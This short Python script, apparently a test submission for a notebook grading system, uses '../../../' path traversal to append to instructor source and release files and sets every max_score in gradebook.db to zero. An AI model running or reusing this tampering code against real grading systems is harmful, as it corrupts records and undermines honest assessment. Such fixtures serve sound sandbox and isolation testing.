"""Overwrites the answer key, the release and the gradebook."""

# wants: instructor
# answers: wrong
# stock: graded

# %% last
import glob
import os
import shutil

for pattern in ("../../../source/*/*", "../../../release/*/*", "../../../gradebook.db"):
    for path in glob.glob(pattern):
        try:
            if path.endswith(".db"):
                import sqlite3

                with sqlite3.connect(path) as db:
                    db.execute("update grade_cells set max_score = 0")
            else:
                with open(path, "a") as file:
                    file.write(" ")
        except Exception as error:
            print(path, error)
